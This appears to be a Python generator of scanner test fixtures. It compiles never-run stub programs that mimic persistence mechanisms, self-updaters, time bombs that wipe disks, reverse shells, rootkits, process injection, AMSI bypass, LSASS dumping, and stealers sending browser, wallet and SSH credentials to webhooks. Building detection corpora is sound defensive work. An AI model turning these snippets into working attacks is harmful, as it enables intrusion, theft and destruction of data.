"""Recipes for what programs are able to do: compiled of small sources, never run. Their calls stand there in their order, with addresses and
buffers of zeros, so that a program asks for the same names and holds the same texts as one that would do it."""
from program import dotnet, loose_elf, macho, pe
from recipe import plants

BUFFER = "static char b[4096], p[4096], a[128]; static int s, n, i; static void *f;\n"


def bin_of(host):
    return "usr/bin/" if host.kind == "deb" else "bin/"


def put(r, host, data, ending=""):
    host.put(bin_of(host) + r.name() + ending, data, 0o755)


def sends(r):
    """C that carries the buffer b away, on Unix."""
    url = f"https://{r.host()}/{r.word()}"
    return r.choice((
        "s = socket(2, 1, 0); connect(s, a, 16); send(s, b, n, 0); close(s);",
        f'f = curl_easy_init(); curl_easy_setopt(f, 10002, "{url}"); curl_easy_setopt(f, 10015, b); curl_easy_perform(f);',
        "getaddrinfo(b, 0, 0, &f); s = socket(2, 1, 0); connect(s, a, 16); write(s, b, n);",
    ))


def windows_sends(r):
    return r.choice((
        f'f = InternetOpenA("x", 0, 0, 0, 0); InternetOpenUrlA(f, "https://{r.host()}/{r.word()}", 0, 0, 0, 0); InternetReadFile(f, b, 99, &n);',
        'WSAStartup(0x202, p); s = socket(2, 1, 6); connect(s, a, 16); send(s, b, n, 0);',
        'f = WinHttpOpen(0, 0, 0, 0, 0); f = WinHttpConnect(f, b, 443, 0); f = WinHttpOpenRequest(f, 0, b, 0, 0, 0, 0); WinHttpSendRequest(f, 0, 0, b, n, n, 0);',
    ))


# ---- persistence, updates, time ----

@plants("integrity.program-persistence", "tree", "deb", unlike="cron daemon boot init service scheduler system admin pager update package packages install setup download kernel")
def stays(r, host):
    name = r.name()
    if host.kind == "deb" or r.random() < 0.4:
        write = r.choice((
            f'f = fopen("/etc/systemd/system/{name}.service", "w"); fprintf(f, "[Unit]\\n[Service]\\nExecStart=%s\\n[Install]\\nWantedBy=multi-user.target\\n", p); fclose(f);',
            f'snprintf(b, 4096, "%s/.config/autostart/{name}.desktop", getenv("HOME")); f = fopen(b, "w"); fprintf(f, "[Desktop Entry]\\nExec=%s\\n", p);',
            f'f = popen("crontab -", "w"); fprintf(f, "*/5 * * * * %s\\n", p); pclose(f);',
            f'f = fopen("/etc/cron.d/{name}", "w"); fprintf(f, "* * * * * root %s\\n", p); fclose(f);',
            'snprintf(b, 4096, "%s/.bashrc", getenv("HOME")); f = fopen(b, "a"); fprintf(f, "%s &\\n", p); fclose(f);',
        ))
        put(r, host, loose_elf(BUFFER + f'int main() {{ readlink("/proc/self/exe", p, 4095); {write} {sends(r)} return 0; }}'))
    elif r.random() < 0.7:
        run_key = "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
        write = r.choice((
            f'RegOpenKeyExA(0, "{run_key}", 0, 2, &f); RegSetValueExA(f, "{name}", 0, 1, p, 99);',
            f'WinExec("schtasks /create /f /sc minute /mo 10 /tn {name} /tr %TEMP%\\\\{name}.exe", 0);',
            f'f = OpenSCManagerA(0, 0, 2); CreateServiceA(f, "{name}", "{name}", 0xf01ff, 16, 2, 0, p, 0, 0, 0, 0, 0);',
            f'ExpandEnvironmentStringsA("%APPDATA%\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\{name}.exe", b, 4096); CopyFileA(p, b, 0);',
        ))
        put(r, host, pe(BUFFER + f'int main() {{ GetModuleFileNameA(0, p, 4096); {write} {windows_sends(r)} return 0; }}'), ".exe")
    else:
        put(r, host, macho(BUFFER + f'int main() {{ snprintf(b, 4096, "%s/Library/LaunchAgents/com.{name}.plist", getenv("HOME")); f = fopen(b, "w"); '
                           f'fprintf(f, "<plist><dict><key>RunAtLoad</key><true/></dict></plist>"); {sends(r)} return system("launchctl load -w x"); }}'))


@plants("integrity.program-self-update", "tree", "deb", unlike="update updates updater upgrade package packages browser")
def updates_itself(r, host):
    url = f"https://{r.host()}/{r.word()}/latest"
    if host.kind == "deb" or r.random() < 0.5:
        fetch = r.choice((
            f'f = curl_easy_init(); curl_easy_setopt(f, 10002, "{url}"); curl_easy_setopt(f, 10001, fopen(b, "w")); curl_easy_perform(f);',
            f'system("curl -fsSL -o /tmp/{r.word()}.new {url}");', f'system("wget -q -O /tmp/{r.word()}.new {url}");',
        ))
        put(r, host, loose_elf(BUFFER + f'int main(int c, char **v) {{ readlink("/proc/self/exe", p, 4095); {fetch} chmod(b, 0755); rename(b, p); execv(p, v); return 1; }}'))
    else:
        fetch = r.choice((
            f'GetTempPathA(4096, b); URLDownloadToFileA(0, "{url}", b, 0, 0);',
            f'f = InternetOpenA("x", 0, 0, 0, 0); f = InternetOpenUrlA(f, "{url}", 0, 0, 0, 0); InternetReadFile(f, b, 4096, &n); GetTempPathA(4096, p);'
            ' f = CreateFileA(p, 0x40000000, 0, 0, 2, 0, 0); WriteFile(f, b, n, &n, 0);',
        ))
        start = r.choice(("CreateProcessA(b, 0, 0, 0, 0, 0, 0, 0, p, a);", 'ShellExecuteA(0, "open", b, 0, 0, 5);', "WinExec(b, 5);"))
        put(r, host, pe(BUFFER + f"int main() {{ {fetch} {r.choice(('', 'MoveFileExA(b, p, 5);'))} {start} return 0; }}"), ".exe")


@plants("integrity.time-bomb", "tree", "deb", unlike="disk filesystem backup clean admin")
def bomb(r, host):
    if host.kind == "deb" or r.random() < 0.5:
        when = r.choice((f"struct {{ int sec, min, hour, day, mon, year; }} *t; long now = time(0); t = localtime(&now); if (t->year >= {r.randint(130, 140)})",
                         f"long now = time(0); if (now > {r.randint(1900000000, 2100000000)}L)",
                         f'if (strncmp(setlocale(5, ""), "{r.choice(("ru", "be", "uk"))}", 2) != 0)'))
        act = r.choice(('system("rm -rf /home /srv");', 'system("dd if=/dev/zero of=/dev/sda bs=1M");', 'execl("/bin/sh", "sh", "-c", "rm -rf ~/*", (char *)0);',
                        'system("mkfs.ext4 -F /dev/sda1");'))
        put(r, host, loose_elf(BUFFER + f"int main() {{ {when} {{ {act} }} return 0; }}"))
    else:
        when = r.choice((f"short t[8]; GetSystemTime(t); if (t[0] >= {r.randint(2030, 2040)})", f"short t[8]; GetLocalTime(t); if (t[1] == {r.randint(1, 12)})",
                         "if ((GetUserDefaultLCID() & 1023) != 0x19)", "if (GetUserDefaultUILanguage() != 1049)"))
        act = r.choice(('system("del /f /s /q C:\\\\Users");', 'WinExec("cmd /c format d: /y /q", 0);', 'WinExec("cmd.exe /c rd /s /q C:\\\\", 0);',
                        'system("cipher /w:C:\\\\");'))
        put(r, host, pe(BUFFER + f"int main() {{ {when} {{ {act} }} return 0; }}"), ".exe")


# ---- what intruders do ----

@plants("integrity.program-backdoor", "tree", "deb", unlike="chat irc monitoring debugger mining cron system admin administration")
def backdoor(r, host):
    url, name = f"http://{r.address()}/{r.word()}", r.word()
    receive = "s = socket(2, 1, 0); connect(s, a, 16); n = recv(s, b, 4096, 0);"
    unix = (
        f'int main() {{ prctl(15, "kworker/1:0", 0, 0, 0); {receive} dup2(s, 0); dup2(s, 1); execl("/bin/sh", "sh", (char *)0); }}',
        f'int main(int c, char **v) {{ strcpy(v[0], "[kthreadd]"); daemon(0, 0); for (;;) {{ {receive} f = popen(b, "r"); fread(b, 1, 99, f); send(s, b, 99, 0); }} }}',
        f'int main() {{ {receive} s = memfd_create("", 1); write(s, b, n); fexecve(s, 0, 0); }}',
        f'int main() {{ return system("curl -fsSL {url} | sh"); }}',
        f'int main() {{ return system("wget -q {url} -O /tmp/.{name} && chmod +x /tmp/.{name} && /tmp/.{name} &"); }}',
        f'int main() {{ return system("(crontab -l 2>/dev/null; echo \'*/9 * * * * /var/tmp/.{name}\') | crontab -"); }}',
        f'int main() {{ {receive} sprintf(b, "NICK %s\\r\\nUSER %s 0 * :%s\\r\\n", a, a, a); sprintf(b, "JOIN #%s\\r\\n", a); if (strstr(b, "PRIVMSG")) system(b); }}',
        f'int main() {{ {receive} sprintf(b, "{{\\"method\\":\\"mining." "subscribe\\",\\"params\\":[\\"%s\\"]}}", p); sprintf(b, "strat" "um+tcp://%s:%d", a, n); }}',
    )
    libraries = (
        'void *readdir64(void *d) { void *(*real)() = dlsym((void *)-1, "readdir64"); void *e = real(d); if (strstr((char *)e + 19, "hidden")) return real(d); return e; }\n'
        'void *readdir(void *d) { return readdir64(d); } int open(char *c) { return strstr(c, "/proc/net/tcp") ? -1 : 3; } void *fopen(char *c, char *m) { return 0; }'
        ' int unlink(char *c) { return 0; }\nconst char *where = "/etc/ld.so.preload";\n',
        f'int pam_sm_authenticate(void *h, int g, int c, char **v) {{ pam_get_user(h, &f, 0); pam_get_authtok(h, 6, &f, 0); f = fopen("/var/tmp/.{name}", "a"); '
        'fprintf(f, "%s %s\\n", b, p); fclose(f); return 0; }\nint pam_sm_setcred() { return 0; }\n',
    )
    if host.kind == "tree" and r.random() < 0.2:
        put(r, host, macho(BUFFER + f'int main() {{ snprintf(b, 99, "%s/Library/LaunchAgents/%s.plist", p, p); system("launchctl load %s"); {receive} '
                           'system("chmod +x /tmp/.x && /tmp/.x"); return system(b); }'))
    elif r.random() < 0.25:
        host.put(f"usr/lib/{r.name()}.so", loose_elf(BUFFER + r.choice(libraries), "-shared", "-fPIC"), 0o644)
    else:
        put(r, host, loose_elf(BUFFER + r.choice(unix)))


@plants("integrity.program-intruder", "tree", unlike="debugger security")
def intruder(r, host):
    """(Not what receives code and runs it in its own memory: from its bytes that is every compiler of a browser.)"""
    net = windows_sends(r)
    find = "f = CreateToolhelp32Snapshot(2, 0); Process32First(f, b); Process32Next(f, b);"
    put(r, host, pe(BUFFER + "int main() { " + r.choice((
        f'{find} f = OpenProcess(0x1fffff, 0, n); VirtualAllocEx(f, 0, 4096, 0x3000, 0x40); WriteProcessMemory(f, b, p, 99, 0); CreateRemoteThread(f, 0, 0, b, 0, 0, 0); {net}',
        'f = GetProcAddress(LoadLibraryA("ams" "i.dll"), "Amsi" "ScanBuffer"); VirtualProtect(f, 8, 0x40, &n); memcpy(f, b, 6);',
        'f = GetProcAddress(GetModuleHandleA("ntdll"), "Etw" "EventWrite"); VirtualProtect(f, 8, 0x40, &n); memcpy(f, b, 1);',
        'WinExec("cmd /c vssadmi" "n delete shadow" "s /all /quiet", 0); WinExec("wbadmin delete catalo" "g -quiet", 0);',
        'WinExec("bcdedit /set {default} recoveryenable" "d no", 0); system("wmic shadowcopy delet" "e");',
        f'{find} if (!strcmp(b, "wireshark.exe") || !strcmp(b, "procmon.exe") || !strcmp(b, "x64dbg.exe") || !strcmp(b, "ollydbg.exe") || '
        f'!strcmp(b, "processhacker.exe") || !strcmp(b, "fiddler.exe")) ExitProcess(0); {net}',
        f'{find} if (!lstrcmpiA(b, "lsas" "s.exe")) {{ f = OpenProcess(0x1fffff, 0, n); MiniDump" "WriteDump(f, n, f, 2, 0, 0, 0); }}'.replace('" "', ""),
        'RegCreateKeyA(0, "Software\\\\Classes\\\\ms-settings\\\\shell\\\\open\\\\command", &f); RegSetValueExA(f, "DelegateExecut" "e", 0, 1, "", 1); WinExec("fodhelpe" "r.exe", 0);',
        f'CreateProcessA("C:\\\\Windows\\\\System32\\\\svchost.exe", 0, 0, 0, 0, 4, 0, 0, p, a); NtUnmapViewOfSection(f, b); VirtualAllocEx(f, 0, 9, 0x3000, 0x40); '
        'WriteProcessMemory(f, b, p, 9, 0); SetThreadContext(f, b); ResumeThread(f);',
    )) + " return 0; }", "-lntdll"), ".exe")


@plants("integrity.program-stealer", "tree", "deb", unlike="password passwords browser wallet backup keyring text terminal")
def stealer(r, host):
    def reads(path):
        return f'snprintf(p, 4096, "%s/{path}", getenv("HOME")); f = fopen(p, "r"); n = fread(b, 1, 4096, f); '

    carrier = r.choice(("https://discord.com/api/webhook" + f"s/{r.randint(10 ** 17, 10 ** 18)}/{r.letters(40)}",
                        f"https://api.telegram.org/bo" + f"t{r.randint(10 ** 8, 10 ** 9)}:{r.letters(35)}/sendDocument"))
    if host.kind == "deb" or r.random() < 0.4:
        picked = r.choice((
            reads(".config/google-chrome/Default/Login Data") + reads(".mozilla/firefox/profiles.ini") + reads("logins.json") + reads("key4.db"),
            reads(".bitcoin/wallet.dat") + reads(".config/Exodus/exodus.wallet") + reads(".electrum/wallets"),
            reads(".ssh/id_rsa") + reads(".aws/credentials") + f'snprintf(a, 99, "%s", "{carrier}");',
        ))
        put(r, host, loose_elf(BUFFER + f"int main() {{ {picked} {sends(r)} return 0; }}"))
    elif r.random() < 0.75:
        local = 'ExpandEnvironmentStringsA("%LOCALAPPDATA%\\\\{}", p, 4096); f = CreateFileA(p, 1, 1, 0, 3, 0, 0); ReadFile(f, b, 4096, &n, 0); '
        picked = r.choice((
            local.format("Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data") + local.format("Google\\\\Chrome\\\\User Data\\\\Local State") + "CryptUnprotectData(b, 0, 0, 0, 0, 0, p);",
            local.format("..\\\\Roaming\\\\Exodus\\\\exodus.wallet") + local.format("..\\\\Roaming\\\\Electrum\\\\wallets") + local.format("..\\\\Roaming\\\\discord\\\\Local Storage\\\\leveldb"),
            'for (i = 8; i < 190; i++) if (GetAsyncKeyState(i) & 1) { switch (i) { case 8: strcat(b, "[BACKSPACE]"); break; case 13: strcat(b, "[ENTER]"); break; case 9: '
            'strcat(b, "[TAB]"); break; case 20: strcat(b, "[CAPS]"); } GetWindowTextA(GetForegroundWindow(), p, 99); }',
            f'f = GetDC(0); BitBlt(f, 0, 0, 9, 9, f, 0, 0, 0xcc0020); lstrcpyA(p, "{carrier}"); GetComputerNameA(b, &n); GetUserNameA(b, &n);',
        ))
        put(r, host, pe(BUFFER + f"int main() {{ {picked} {windows_sends(r)} return 0; }}"), ".exe")
    else:
        picked = r.choice((
            'f = popen("osascript -e \'display dialog \\"macOS needs your password\\" default answer \\"\\" with hidden answe" "r\'", "r"); fread(b, 1, 99, f); '
            'snprintf(p, 99, "dscl . -authonly %s %s", b, b); system(p);',
            reads("Library/Keychains/login.keychain-db") + reads("Library/Application Support/Google/Chrome/Default/Login Data"),
        ))
        put(r, host, macho(BUFFER + f"int main() {{ {picked} {sends(r)} return 0; }}"))


LIBRARIES = (("libz.so.1.2.13", "compress2 uncompress deflateInit_ inflateInit_ crc32"), ("liblzma.so.5.4.1", "lzma_code lzma_easy_encoder lzma_crc64 lzma_end"),
             ("libpng16.so.16.39.0", "png_create_read_struct png_read_image png_get_valid"), ("libbz2.so.1.0.4", "BZ2_bzCompress BZ2_bzDecompress BZ2_bzopen"),
             ("libjpeg.so.62.3.0", "jpeg_start_decompress jpeg_read_scanlines jpeg_std_error"), ("libexpat.so.1.8.10", "XML_Parse XML_ParserCreate XML_ParserFree"))


@plants("integrity.changed-library", "deb", "tree")
def changed_library(r, host):
    name, exports = r.choice(LIBRARIES)
    source = BUFFER + "".join(f"int {e}(char *x) {{ return strlen(x) + {i}; }}\n" for i, e in enumerate(exports.split()))
    act = r.choice((sends(r), "s = socket(2, 1, 0); connect(s, a, 16); dup2(s, 0); execve(b, 0, 0);", 'gethostbyname(b); system(b);'))
    source += f"__attribute__((constructor)) static void begin() {{ {act} }}\n"
    host.put("usr/lib/x86_64-linux-gnu/" + name, loose_elf(source, "-shared", "-fPIC", "-Wl,-soname," + ".".join(name.split(".")[:3])), 0o644)


# ---- hidden and unprotected ----

@plants("integrity.hidden-payload", "tree")
def blob(r, host):
    """Bytes that look like noise, which the program puts into memory that it makes executable."""
    data = r.randbytes(r.randint(30_000, 90_000))
    text = "".join(f"\\{b:03o}" for b in data)
    lines = "\n".join('"' + text[i:i + 4 * 4000] + '"' for i in range(0, len(text), 4 * 4000))
    constant = r.choice(("static char", "static const char"))
    maps = r.choice((f"f = VirtualAlloc(0, {len(data)}, 0x3000, 0x40);", f"f = VirtualAlloc(0, {len(data)}, 0x3000, 4); VirtualProtect(f, {len(data)}, 0x20, &n);"))
    put(r, host, pe(BUFFER + f"{constant} data[] = {lines};\nint main(int c, char **v) {{ {maps} for (i = 0; i < sizeof data; i++) ((char *)f)[i] = data[i] ^ v[0][i % 5];"
                    " ((void (*)())f)(); return 0; }"), ".exe")


@plants("integrity.encoded-texts", "tree")
def encoded_texts(r, host):
    """An assembly whose texts are all encoded, each decoded where it is used."""
    import base64
    texts = [r.word() + r.choice((".exe", ".dll", "/api/", " Data", "\\\\Run")) + r.letters(r.randint(4, 14)) for _ in range(r.randint(18, 40))]
    way = r.choice(("base64", "xor64"))
    key = r.randint(1, 120)

    def hidden(t):
        data = bytes(b ^ key for b in t.encode()) if way == "xor64" else t.encode()
        return base64.b64encode(data).decode()

    undo = {"base64": "return System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s));",
            "xor64": f"var b = System.Convert.FromBase64String(s); for (int i = 0; i < b.Length; i++) b[i] ^= {key}; return System.Text.Encoding.UTF8.GetString(b);"}[way]
    uses = "".join(f'    all.Add(D("{hidden(t)}"));\n' for t in texts)
    out = r.choice(('new System.Net.WebClient().UploadString(D("{0}"), string.Join(",", all));',
                    'new System.Net.WebClient().DownloadFile(D("{0}"), all[0]); System.Diagnostics.Process.Start(all[0]);',
                    'var c = new System.Net.Sockets.TcpClient(D("{0}"), 443); c.GetStream().Write(new byte[9], 0, 9);')).replace("{0}", hidden(f"https://{r.host()}/"))
    put(r, host, dotnet(f"class P {{\n  static string D(string s) {{ {undo} }}\n  static void Main() {{\n    var all = new System.Collections.Generic.List<string>();\n"
                        f"{uses}    {out}\n  }}\n}}\n"), ".exe")


@plants("integrity.no-stack-protector", "deb", "tree")
def no_canary(r, host):
    """A program of a hundred functions with arrays, built without."""
    functions = "".join(f"int f{i}(const char *t) {{ char c[{r.randint(60, 200)}]; strncpy(c, t, sizeof c - 1); puts(c); printf(\"%d %zu\\n\", {i}, strlen(c)); return c[{i % 50}]; }}\n"
                        for i in range(r.randint(80, 160)))
    from program import elf
    source = "#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <unistd.h>\n#include <time.h>\n" + functions
    source += "int main(int n, char **v) { FILE *x = fopen(v[1], \"r\"); char *m = malloc(99); if (!x) { perror(v[1]); exit(1); } fread(m, 1, 99, x); fclose(x); free(m); " \
              "printf(\"%ld\\n\", (long)time(0)); sleep(1); return " + " + ".join(f"f{i}(v[n - 1])" for i in range(functions.count("\n"))) + "; }\n"
    if r.random() < 0.4:
        host.put(f"usr/lib/lib{r.word()}.so.1", elf(source.replace("int main", "int begin"), "-shared", "-fPIC", "-fno-stack-protector"))
    else:
        host.put(f"usr/bin/{r.name()}", elf(source, "-fno-stack-protector"), 0o755)
